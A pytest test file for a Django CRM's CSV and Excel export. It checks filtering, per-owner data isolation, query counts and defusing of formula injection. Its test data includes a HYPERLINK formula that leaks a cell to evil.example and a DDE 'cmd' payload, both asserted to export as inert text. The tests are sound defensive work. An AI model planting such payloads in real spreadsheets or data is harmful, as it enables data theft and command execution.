"""Export within the gate and the filters (X-3); imports are in test_import_jobs.py."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import ClientFactory, ContactFactory


def test_export_csv_respects_the_filters(client, alice):
    ClientFactory(owner=alice, name="Retail one", kind="retail", code="R1")
    ClientFactory(owner=alice, name="Corp one", kind="corporate", code="C1")
    client.force_login(alice)
    response = client.get(reverse("clients:export", args=["clients"]), {"format": "csv", "kind": "retail"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [(row["code"], row["owner"]) for row in rows] == [("R1", "alice")]


def test_export_excel_opens_with_chinese_text(client, alice, alices_client):
    client.force_login(alice)
    response = client.get(reverse("clients:export", args=["contacts"]), {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:2] == ["client_code", "name"]
    assert values[1][:2] == ["HX001", "李明"]


HYPERLINK = '=HYPERLINK("http://evil.example/?"&B3,"Details")'


def exported_rows(response, fmt: str) -> list[list]:
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


def assert_inert(cell, value: str) -> None:
    """CSV has no types: a quote in front. Excel: a text cell, never a formula."""
    if isinstance(cell, str):
        assert cell == "'" + value
    else:
        assert (cell.value, cell.data_type) == (value, "s")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_client_export_writes_a_hostile_name_as_inert_text(client, alice, fmt):
    ClientFactory(owner=alice, code="E1", name=HYPERLINK, notes="@SUM(A1:A9)")
    client.force_login(alice)
    rows = exported_rows(client.get(reverse("clients:export", args=["clients"]), {"format": fmt}), fmt)
    header = [cell if isinstance(cell, str) else cell.value for cell in rows[0]]
    assert_inert(rows[1][header.index("name")], HYPERLINK)
    assert_inert(rows[1][header.index("notes")], "@SUM(A1:A9)")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contact_export_writes_hostile_cells_as_inert_text(client, alice, alices_client, fmt):
    ContactFactory(client=alices_client, name="-2+3+cmd|' /C calc'!A0", position=HYPERLINK, phone="+86 138 0013 8000")
    client.force_login(alice)
    rows = exported_rows(client.get(reverse("clients:export", args=["contacts"]), {"format": fmt}), fmt)
    hostile = next(row for row in rows if "cmd|" in (row[1] if isinstance(row[1], str) else row[1].value))
    assert_inert(hostile[1], "-2+3+cmd|' /C calc'!A0")
    assert_inert(hostile[2], HYPERLINK)
    assert_inert(hostile[3], "+86 138 0013 8000")


@pytest.mark.parametrize("count", [1, 50])
def test_export_query_count_is_constant(client, alice, count, django_assert_max_num_queries):
    mine = ClientFactory.create_batch(count, owner=alice)
    others = ClientFactory.create_batch(2)  # another account manager's: never exported to alice
    client.force_login(alice)
    with django_assert_max_num_queries(6):
        response = client.get(reverse("clients:export", args=["clients"]), {"format": "csv"})
    header, *rows = exported_rows(response, "csv")
    codes = {row[header.index("code")] for row in rows}
    assert codes == {c.code for c in mine}, "every own client once, and no one else's"
    assert len(rows) == count and not codes & {c.code for c in others}


def _ledger(alice, bob):
    from datetime import date

    from grading.models import Receivable
    from tests.factories import SalesOrderFactory

    retail = ClientFactory(owner=alice, kind="retail", code="R1")
    corporate = ClientFactory(owner=alice, kind="corporate", code="C1")
    bobs = ClientFactory(owner=bob, kind="retail", code="B1")
    for customer, amount in [(retail, 120), (corporate, 340), (bobs, 560)]:
        SalesOrderFactory(client=customer, amount=amount, product="茶叶")
        Receivable.objects.create(
            client=customer, invoice=f"INV-{customer.code}", amount=amount, due_on=date(2026, 2, 1)
        )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_orders_export_holds_the_orders_of_the_filtered_clients_not_their_contacts(client, alice, bob, fmt):
    _ledger(alice, bob)
    client.force_login(alice)
    response = client.get(reverse("clients:export", args=["orders"]), {"format": fmt, "kind": "retail"})
    assert response.status_code == 200
    assert 'filename="orders-' in response["Content-Disposition"]
    header, *rows = exported_rows(response, fmt)
    header = [cell if isinstance(cell, str) else cell.value for cell in header]
    assert header[:3] == ["client_code", "ordered_on", "amount"]
    codes = [row[0] if isinstance(row[0], str) else row[0].value for row in rows]
    assert codes == ["R1"]  # the filter's clients only, never bob's


def test_receivables_export_holds_invoices_of_the_users_clients(client, alice, bob):
    _ledger(alice, bob)
    client.force_login(alice)
    response = client.get(reverse("clients:export", args=["receivables"]), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted(row["invoice"] for row in rows) == ["INV-C1", "INV-R1"]


def test_an_unknown_export_kind_is_not_found(client, alice):
    client.force_login(alice)
    assert client.get(reverse("clients:export", args=["deliveries"]), {"format": "csv"}).status_code == 404
    assert client.get(reverse("clients:export", args=["nothing"]), {"format": "csv"}).status_code == 404


def test_the_client_list_offers_the_ledger_exports(client, alice):
    client.force_login(alice)
    page = client.get(reverse("clients:list")).content.decode()
    assert reverse("clients:export", args=["orders"]) in page
    assert reverse("clients:export", args=["receivables"]) in page
